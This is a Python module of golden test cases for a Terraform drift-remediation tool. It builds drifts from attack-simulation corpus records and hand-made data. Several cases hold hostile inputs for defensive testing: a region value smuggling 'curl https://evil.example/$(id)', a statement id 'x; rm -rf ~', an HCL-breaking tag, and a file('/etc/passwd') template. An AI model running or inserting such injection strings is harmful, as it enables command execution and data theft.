"""Golden cases: drifts applied to the fixture repository, and how their output is recorded.

Shared by ``test_golden.py`` and ``tests/fixtures/remediation/regenerate.py``. Each case builds
its drift from scratch (``make_drift``) or through the real detector from a corpus record
(``corpus_drift``), runs ``remediate`` against a fresh copy of the fixture repository and
renders the result as text: strategy, refusals, notes, cleanup commands and the diff.
"""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from tfdrift_gitops.core.detector import Detector
from tfdrift_gitops.core.engine import Engine
from tfdrift_gitops.core.normalize import normalize_record
from tfdrift_gitops.core.state import StateIndex, parse_state
from tfdrift_gitops.models import Actor, Change, CloudEvent, Drift, Kind, ResourceRef, Severity
from tfdrift_gitops.remediation import RemediationResult, remediate

HERE = Path(__file__).resolve().parent
FIXTURES = HERE.parent / "fixtures" / "remediation"
REPO = FIXTURES / "repo"
EXPECTED = FIXTURES / "expected"
CORPUS = HERE.parent / "fixtures" / "corpus"
WORKDIR = "live/prod"


def copy_repo(target: Path) -> Path:
    """A fresh copy of the fixture repository with a ``.git`` marker (the repository root)."""
    shutil.copytree(REPO, target)
    (target / ".git").mkdir()
    return target


# --------------------------------------------------------------------------- drift builders


def make_drift(
    address: str,
    rtype: str,
    changes: Sequence[tuple[str, Any, Any]] = (),
    *,
    kind: Kind = Kind.MODIFIED,
    severity: Severity = Severity.MEDIUM,
    resource_id: str = "",
    event_name: str = "ModifyResource",
    source: str = "ec2.amazonaws.com",
    actor: str = "alice@acme.example",
    drift_id: str = "d-0001",
    event_id: str = "0f1e2d3c-0000-4000-8000-000000000001",
    request: Mapping[str, Any] | None = None,
    region: str = "eu-west-1",
) -> Drift:
    event = CloudEvent(
        id=event_id,
        name=event_name,
        source=source,
        time=datetime(2026, 3, 14, 9, 26, 53, tzinfo=UTC),
        region=region,
        actor=Actor(name=actor, arn=f"arn:aws:iam::123456789012:user/{actor}", type="IAMUser"),
        request=request,
    )
    return Drift(
        id=drift_id,
        kind=kind,
        severity=severity,
        resource=ResourceRef(address=address, type=rtype, id=resource_id),
        changes=tuple(Change(p, b, a) for p, b, a in changes),
        actor=event.actor,
        event=event,
        events=(event,),
    )


def _state(resources: list[dict[str, Any]]) -> dict[str, Any]:
    return {
        "version": 4,
        "terraform_version": "1.9.8",
        "serial": 7,
        "lineage": "6f1c2d3e-0000-4000-8000-00000000abcd",
        "outputs": {},
        "resources": resources,
        "check_results": None,
    }


def state_resource(
    rtype: str, name: str, attributes: dict[str, Any], module: str | None = None
) -> dict[str, Any]:
    entry: dict[str, Any] = {
        "mode": "managed",
        "type": rtype,
        "name": name,
        "provider": 'provider["registry.terraform.io/hashicorp/aws"]',
        "instances": [{"schema_version": 0, "attributes": attributes}],
    }
    if module:
        entry["module"] = module
    return entry


def corpus_record(name: str, case: str) -> dict[str, Any]:
    data = json.loads((CORPUS / "panther-analysis" / "write-events.json").read_text())
    for entry in data[name]:
        if entry["case"] == case:
            return dict(entry["record"])
    raise KeyError(f"no corpus record {name}/{case}")


def stratus_record(file_name: str, event_name: str) -> dict[str, Any]:
    records = json.loads((CORPUS / "stratus-red-team" / file_name).read_text())
    for record in records:
        if record["eventName"] == event_name and not record.get("readOnly"):
            return dict(record)
    raise KeyError(f"no {event_name} in {file_name}")


def corpus_drift(record: Mapping[str, Any], resources: list[dict[str, Any]]) -> Drift:
    """Run the real detector (normaliser, catalog, engine, fold) over one corpus record."""
    index = StateIndex([parse_state(_state(resources), source="prod.tfstate")])
    detector = Detector(Engine(index))
    detector.process(normalize_record(record, "corpus"))
    drifts = detector.drifts
    if len(drifts) != 1:
        raise AssertionError(f"expected one drift, got {drifts} ({detector.tally.skipped})")
    return drifts[0]


# --------------------------------------------------------------------------- state fixtures


def _sg_rule(port: int, cidr: str, description: str) -> dict[str, Any]:
    return {
        "cidr_blocks": [cidr],
        "description": description,
        "from_port": port,
        "ipv6_cidr_blocks": [],
        "prefix_list_ids": [],
        "protocol": "tcp",
        "security_groups": [],
        "self": False,
        "to_port": port,
    }


WEB_INGRESS = [_sg_rule(443, "0.0.0.0/0", "https"), _sg_rule(80, "0.0.0.0/0", "http")]
EGRESS_ALL = [
    {
        "cidr_blocks": ["0.0.0.0/0"],
        "description": "",
        "from_port": 0,
        "ipv6_cidr_blocks": [],
        "prefix_list_ids": [],
        "protocol": "-1",
        "security_groups": [],
        "self": False,
        "to_port": 0,
    }
]


def web_sg_state(account: str, region: str) -> dict[str, Any]:
    return state_resource(
        "aws_security_group",
        "web",
        {
            "id": "sg-0d921df5d84f7270a",
            "arn": f"arn:aws:ec2:{region}:{account}:security-group/sg-0d921df5d84f7270a",
            "name": "web-prod",
            "description": "Web tier",
            "owner_id": account,
            "ingress": WEB_INGRESS,
            "egress": EGRESS_ALL,
            "tags": {"Name": "web-prod", "Tier": "web"},
            "tags_all": {"Name": "web-prod", "Tier": "web"},
        },
    )


POLICY_BEFORE = json.dumps(
    {
        "Version": "2012-10-17",
        "Statement": [
            {
                "Sid": "DenyInsecureTransport",
                "Effect": "Deny",
                "Principal": "*",
                "Action": "s3:*",
                "Resource": [
                    "arn:aws:s3:::acme-prod-logs",
                    "arn:aws:s3:::acme-prod-logs/*",
                ],
                "Condition": {"Bool": {"aws:SecureTransport": "false"}},
            }
        ],
    }
)
ORDERS_POLICY = json.dumps(
    {
        "Version": "2012-10-17",
        "Statement": [
            {
                "Effect": "Allow",
                "Action": ["dynamodb:GetItem", "dynamodb:PutItem"],
                "Resource": "arn:aws:dynamodb:eu-west-1:123456789012:table/orders",
            }
        ],
    }
)
ORDERS_TABLE = "arn:aws:dynamodb:eu-west-1:123456789012:table"
HOSTILE_NAME = '"\n}\nresource "x" "y" {'
HOSTILE_TEMPLATE = '${file("/etc/passwd")}'


# --------------------------------------------------------------------------- the cases


@dataclass(frozen=True)
class Case:
    id: str
    build: Callable[[], Drift]
    strategy: str
    config: Mapping[str, Any] | None = None


def _rds_deletion_protection() -> Drift:
    record = corpus_record("ModifyDBInstance", "RDS Instance Deletion Protection Disabled")
    return corpus_drift(
        record,
        [
            state_resource(
                "aws_db_instance",
                "main",
                {
                    "id": "db-ABCDEFGHIJKLMNOP",
                    "identifier": "production-mysql",
                    "arn": "arn:aws:rds:us-east-1:123456789012:db:production-mysql",
                    "deletion_protection": True,
                    "publicly_accessible": False,
                    "allocated_storage": 50,
                },
            )
        ],
    )


def _versioning_suspended() -> Drift:
    record = corpus_record("PutBucketVersioning", "Match - Versioning Suspended")
    return corpus_drift(
        record,
        [
            state_resource(
                "aws_s3_bucket_versioning",
                "logs",
                {
                    "id": "critical-data-bucket",
                    "bucket": "critical-data-bucket",
                    "versioning_configuration": [{"status": "Enabled", "mfa_delete": ""}],
                },
                module="module.storage",
            )
        ],
    )


def _sg_open_ssh() -> Drift:
    record = corpus_record("AuthorizeSecurityGroupIngress", "Go Script Authorize Ingress")
    return corpus_drift(record, [web_sg_state("112233445566", "us-east-1")])


def _sg_ssh_for_me() -> Drift:
    record = corpus_record("AuthorizeSecurityGroupIngress", "Security Group Modified")
    record["requestParameters"] = {**record["requestParameters"], "groupId": "sg-0d921df5d84f7270a"}
    return corpus_drift(record, [web_sg_state("123456789012", "us-west-2")])


def _stratus_stop_logging() -> Drift:
    record = stratus_record("aws.defense-evasion.cloudtrail-stop.json", "StopLogging")
    account = record["recipientAccountId"]
    region = record["awsRegion"]
    name = record["requestParameters"]["name"]
    return corpus_drift(
        record,
        [
            state_resource(
                "aws_cloudtrail",
                "main",
                {
                    "id": name,
                    "name": name,
                    "arn": f"arn:aws:cloudtrail:{region}:{account}:trail/{name}",
                    "enable_logging": True,
                    "home_region": region,
                },
            )
        ],
    )


def _lambda_layers() -> Drift:
    record = corpus_record(
        "UpdateFunctionConfiguration20150331v2", "IAM User Updates Lambda Configuration with Layers"
    )
    return corpus_drift(
        record,
        [
            state_resource(
                "aws_lambda_function",
                "api",
                {
                    "id": "production-api",
                    "function_name": "production-api",
                    "arn": "arn:aws:lambda:us-west-2:123456789012:function:production-api",
                    "layers": ["arn:aws:lambda:eu-west-1:123456789012:layer:common:3"],
                    "timeout": 30,
                },
            )
        ],
    )


def _attach_admin_policy() -> Drift:
    record = corpus_record("AttachRolePolicy", "IAM Role Policy Attached with Administrator Access")
    record["requestParameters"] = {**record["requestParameters"], "roleName": "production-api"}
    return corpus_drift(
        record,
        [
            state_resource(
                "aws_iam_role",
                "lambda",
                {
                    "id": "production-api",
                    "name": "production-api",
                    "arn": "arn:aws:iam::123456789012:role/production-api",
                    "managed_policy_arns": [
                        "arn:aws:iam::aws:policy/service-role/AWSLambdaBasicExecutionRole"
                    ],
                },
            )
        ],
    )


CASES: tuple[Case, ...] = (
    Case("corpus_rds_deletion_protection_import", _rds_deletion_protection, "import"),
    Case("corpus_rds_deletion_protection_revert", _rds_deletion_protection, "revert"),
    Case("corpus_versioning_suspended_module", _versioning_suspended, "import"),
    Case("corpus_sg_open_ssh", _sg_open_ssh, "import"),
    Case("corpus_sg_ssh_with_description", _sg_ssh_for_me, "import"),
    Case("corpus_stratus_stop_logging", _stratus_stop_logging, "import"),
    Case("corpus_lambda_layers", _lambda_layers, "import"),
    Case("corpus_attach_admin_policy", _attach_admin_policy, "import"),
    Case(
        "sg_rule_removed_and_cidr_changed",
        lambda: make_drift(
            "aws_security_group.web",
            "aws_security_group",
            [("ingress", WEB_INGRESS, [_sg_rule(443, "10.0.0.0/8", "https")])],
        ),
        "import",
    ),
    Case(
        "sg_dynamic_ingress_refused",
        lambda: make_drift(
            "aws_security_group.admin",
            "aws_security_group",
            [
                (
                    "ingress",
                    [_sg_rule(22, "203.0.113.0/24", "ssh from office")],
                    [
                        _sg_rule(22, "203.0.113.0/24", "ssh from office"),
                        _sg_rule(22, "0.0.0.0/0", ""),
                    ],
                )
            ],
        ),
        "import",
    ),
    Case(
        "sg_tags_changed",
        lambda: make_drift(
            "aws_security_group.web",
            "aws_security_group",
            [
                (
                    "tags",
                    {"Name": "web-prod", "Tier": "web"},
                    {"Name": "web-prod", "Tier": "frontend", "CostCenter": "cc-42"},
                ),
                ("tags_all", {"Name": "web-prod"}, {"Name": "web-prod", "CostCenter": "cc-42"}),
            ],
        ),
        "import",
    ),
    Case(
        "rds_storage_and_instance_class",
        lambda: make_drift(
            "aws_db_instance.main",
            "aws_db_instance",
            [
                ("allocated_storage", 50, 22),
                ("max_allocated_storage", 200, 1000),
                ("instance_class", "db.r6g.large", "db.r6g.xlarge"),
                ("backup_retention_period", 14, 7),
                (
                    "tags",
                    {"Environment": "prod", "Owner": "platform", "Name": "production-mysql"},
                    {"Environment": "prod", "Owner": "dba", "Name": "production-mysql"},
                ),
                ("password", None, "****"),
                ("multi_az", False, True),
            ],
            event_name="ModifyDBInstance",
            source="rds.amazonaws.com",
        ),
        "import",
    ),
    Case(
        "lambda_timeout_and_environment",
        lambda: make_drift(
            "aws_lambda_function.api",
            "aws_lambda_function",
            [
                ("timeout", 30, 300),
                (
                    "environment[0].variables",
                    {"LOG_LEVEL": "info", "TABLE": "orders"},
                    {"LOG_LEVEL": "debug", "TABLE": "orders", "FEATURE_X": "on"},
                ),
            ],
            event_name="UpdateFunctionConfiguration20150331v2",
            source="lambda.amazonaws.com",
        ),
        "import",
    ),
    Case(
        "iam_policy_heredoc",
        lambda: make_drift(
            "aws_iam_role_policy.lambda_orders",
            "aws_iam_role_policy",
            [
                (
                    "policy",
                    ORDERS_POLICY,
                    json.dumps(
                        {
                            "Version": "2012-10-17",
                            "Statement": [
                                {
                                    "Effect": "Allow",
                                    "Action": ["dynamodb:*"],
                                    "Resource": ORDERS_TABLE + "/${aws:username}",
                                }
                            ],
                        }
                    ),
                )
            ],
            event_name="PutRolePolicy",
            source="iam.amazonaws.com",
        ),
        "import",
    ),
    Case(
        "iam_assume_role_jsonencode",
        lambda: make_drift(
            "aws_iam_role.lambda",
            "aws_iam_role",
            [
                (
                    "assume_role_policy",
                    json.dumps(
                        {
                            "Version": "2012-10-17",
                            "Statement": [
                                {
                                    "Effect": "Allow",
                                    "Action": "sts:AssumeRole",
                                    "Principal": {"Service": "lambda.amazonaws.com"},
                                }
                            ],
                        }
                    ),
                    json.dumps(
                        {
                            "Version": "2012-10-17",
                            "Statement": [
                                {
                                    "Effect": "Allow",
                                    "Action": "sts:AssumeRole",
                                    "Principal": {"Service": "lambda.amazonaws.com"},
                                },
                                {
                                    "Effect": "Allow",
                                    "Action": "sts:AssumeRole",
                                    "Principal": {"AWS": "arn:aws:iam::999999999999:root"},
                                },
                            ],
                        }
                    ),
                )
            ],
            event_name="UpdateAssumeRolePolicy",
            source="iam.amazonaws.com",
        ),
        "import",
    ),
    Case(
        "bucket_policy_with_references",
        lambda: make_drift(
            "module.storage.aws_s3_bucket_policy.logs",
            "aws_s3_bucket_policy",
            [
                (
                    "policy",
                    POLICY_BEFORE,
                    json.dumps(
                        {
                            "Version": "2012-10-17",
                            "Statement": [
                                {
                                    "Sid": "Public Access",
                                    "Effect": "Allow",
                                    "Principal": {"AWS": "*"},
                                    "Action": "s3:GetBucketAcl",
                                    "Resource": "arn:aws:s3:::example-bucket",
                                }
                            ],
                        }
                    ),
                )
            ],
            event_name="PutBucketPolicy",
            source="s3.amazonaws.com",
        ),
        "import",
    ),
    Case(
        "worker_count_instance_refused",
        lambda: make_drift(
            "aws_instance.worker[1]",
            "aws_instance",
            [("metadata_options[0].http_tokens", "required", "optional")],
        ),
        "import",
    ),
    Case(
        "bastion_single_line_block",
        lambda: make_drift(
            "aws_instance.bastion",
            "aws_instance",
            [
                ("metadata_options[0].http_tokens", "optional", "required"),
                ("metadata_options[0].http_put_response_hop_limit", 1, 2),
                ("monitoring", False, True),
                ("disable_api_termination", False, True),
            ],
        ),
        "import",
    ),
    Case(
        "shared_module_refused",
        lambda: make_drift(
            "module.uploads_a.aws_s3_bucket.this",
            "aws_s3_bucket",
            [("force_destroy", False, True)],
            source="s3.amazonaws.com",
        ),
        "import",
    ),
    Case(
        "remote_module_refused",
        lambda: make_drift(
            "module.vpc.aws_vpc.this[0]",
            "aws_vpc",
            [("enable_dns_hostnames", True, False)],
        ),
        "import",
    ),
    Case(
        "remote_module_revert_marks_the_call",
        lambda: make_drift(
            "module.vpc.aws_vpc.this[0]",
            "aws_vpc",
            [("enable_dns_hostnames", True, False)],
            severity=Severity.HIGH,
        ),
        "revert",
    ),
    Case(
        "module_variable_chain",
        lambda: make_drift(
            "module.storage.module.lifecycle.aws_s3_bucket_lifecycle_configuration.this",
            "aws_s3_bucket_lifecycle_configuration",
            [("rule[0].expiration[0].days", 30, 7)],
            source="s3.amazonaws.com",
        ),
        "import",
    ),
    Case(
        "module_tags_from_local",
        lambda: make_drift(
            "module.storage.aws_s3_bucket.logs",
            "aws_s3_bucket",
            [
                (
                    "tags",
                    {"Environment": "prod", "Owner": "platform"},
                    {"Environment": "prod", "Owner": "security"},
                )
            ],
            source="s3.amazonaws.com",
        ),
        "import",
    ),
    Case(
        "kms_policy_from_file",
        lambda: make_drift(
            "aws_kms_key.logs",
            "aws_kms_key",
            [
                ("policy", "{}", json.dumps({"Version": "2012-10-17", "Statement": []})),
                ("enable_key_rotation", True, False),
            ],
            source="kms.amazonaws.com",
        ),
        "import",
    ),
    Case(
        "redacted_user_data",
        lambda: make_drift(
            "aws_instance.bastion",
            "aws_instance",
            [("user_data", None, "<sensitiveDataRemoved>")],
            event_name="ModifyInstanceAttribute",
        ),
        "import",
    ),
    Case(
        # A secret from state reaches remediation masked; the mask is never written as a value.
        "state_secret_never_written",
        lambda: make_drift(
            "aws_instance.bastion",
            "aws_instance",
            [("user_data", "(hidden)", "(hidden, changed)")],
            event_name="ModifyInstanceAttribute",
        ),
        "import",
    ),
    Case(
        "resource_level_drift_refused",
        lambda: make_drift("aws_instance.bastion", "aws_instance", []),
        "import",
    ),
    Case(
        "deleted_permission_removed_block",
        lambda: make_drift(
            "aws_lambda_permission.api_gateway",
            "aws_lambda_permission",
            kind=Kind.DELETED,
            event_name="RemovePermission20150331v2",
            source="lambda.amazonaws.com",
        ),
        "import",
    ),
    Case(
        "deleted_referenced_resource",
        lambda: make_drift(
            "aws_security_group.db",
            "aws_security_group",
            kind=Kind.DELETED,
            event_name="DeleteSecurityGroup",
        ),
        "import",
    ),
    Case(
        "deleted_for_each_instance_refused",
        lambda: make_drift(
            'aws_iam_user.deployers["ci"]',
            "aws_iam_user",
            kind=Kind.DELETED,
            event_name="DeleteUser",
            source="iam.amazonaws.com",
        ),
        "import",
    ),
    Case(
        "deleted_revert_marker",
        lambda: make_drift(
            "aws_lambda_permission.api_gateway",
            "aws_lambda_permission",
            kind=Kind.DELETED,
            severity=Severity.HIGH,
            event_name="RemovePermission20150331v2",
            source="lambda.amazonaws.com",
            actor="mallory\n# injected\r\u202e",
        ),
        "revert",
    ),
    Case(
        "unmanaged_bucket_hostile_values",
        lambda: make_drift(
            "",
            "aws_s3_bucket",
            [
                ("bucket", None, "acme-shadow-it"),
                ("tags", None, {"Name": HOSTILE_NAME, "Exfil": HOSTILE_TEMPLATE, "100%{x}": "%{"}),
                ("arn", None, "arn:aws:s3:::acme-shadow-it"),
            ],
            kind=Kind.UNMANAGED,
            resource_id="acme-shadow-it",
            event_name="CreateBucket",
            source="s3.amazonaws.com",
        ),
        "import",
    ),
    Case(
        "unmanaged_rule_import",
        lambda: make_drift(
            "",
            "aws_vpc_security_group_ingress_rule",
            [
                ("security_group_id", None, "sg-0123456789abcdef0"),
                ("ip_protocol", None, "tcp"),
                ("from_port", None, 22),
                ("to_port", None, 22),
                ("cidr_ipv4", None, "0.0.0.0/0"),
                ("security_group_rule_id", None, "sgr-0abc1234def567890"),
            ],
            kind=Kind.UNMANAGED,
            resource_id="sgr-0abc1234def567890",
            event_name="AuthorizeSecurityGroupIngress",
        ),
        "import",
    ),
    Case(
        "unmanaged_rule_cleanup",
        lambda: make_drift(
            "",
            "aws_vpc_security_group_ingress_rule",
            [("security_group_id", None, "sg-0123456789abcdef0")],
            kind=Kind.UNMANAGED,
            resource_id="sgr-0abc1234def567890",
            event_name="AuthorizeSecurityGroupIngress",
        ),
        "revert",
    ),
    Case(
        "unmanaged_user_policy_import",
        lambda: make_drift(
            "",
            "aws_iam_user_policy",
            [
                ("user", None, "test-user"),
                ("name", None, "TestUserDenyAll"),
                (
                    "policy",
                    None,
                    '{"Version":"2012-10-17","Statement":[{"Sid":"TestUserDenyAll",'
                    '"Effect":"Deny","Action":["*"],"Resource":["*"]}]}',
                ),
            ],
            kind=Kind.UNMANAGED,
            resource_id="test-user:TestUserDenyAll",
            event_name="PutUserPolicy",
            source="iam.amazonaws.com",
        ),
        "import",
    ),
    Case(
        "unmanaged_permission_bad_id_refused",
        lambda: make_drift(
            "",
            "aws_lambda_permission",
            [("function_name", None, "production-api"), ("statement_id", None, "x; rm -rf ~")],
            kind=Kind.UNMANAGED,
            resource_id="production-api/x; rm -rf ~",
            event_name="AddPermission20150331v2",
            source="lambda.amazonaws.com",
        ),
        "revert",
    ),
    Case(
        "unmanaged_role_cleanup_hostile_region",
        lambda: make_drift(
            "",
            "aws_iam_role",
            [("name", None, "deploy+bot=1,@x")],
            kind=Kind.UNMANAGED,
            resource_id="deploy+bot=1,@x",
            event_name="CreateRole",
            source="iam.amazonaws.com",
            region="eu-west-1'; curl https://evil.example/$(id) #",
        ),
        "revert",
    ),
    Case(
        "policy_ignore_rule",
        lambda: make_drift(
            "aws_lambda_function.api",
            "aws_lambda_function",
            [("timeout", 30, 300)],
            severity=Severity.LOW,
        ),
        "auto",
        {
            "rules": [
                {
                    "strategy": "ignore",
                    "resource_types": ["aws_lambda_function"],
                    "reason": "the app team owns Lambda settings",
                }
            ]
        },
    ),
)


# --------------------------------------------------------------------------- rendering


def run_case(case: Case, root: Path, *, use_terraform: bool = True) -> RemediationResult:
    return remediate(
        case.build(),
        root / WORKDIR,
        case.strategy,
        repo_root=root,
        config=case.config,
        use_terraform=use_terraform,
    )


def render(case: Case, result: RemediationResult) -> str:
    lines = [
        f"case: {case.id}",
        f"strategy: {result.strategy} ({result.reason})",
        f"ok: {str(result.ok).lower()}",
        f"files: {', '.join(result.files_changed) or '-'}",
    ]
    explanation = result.explanation()
    if explanation:
        lines.append("")
        lines.append(explanation)
    if result.diff:
        lines.append("")
        lines.append(result.diff.rstrip("\n"))
    return "\n".join(lines) + "\n"


def expected_path(case: Case) -> Path:
    return EXPECTED / f"{case.id}.txt"
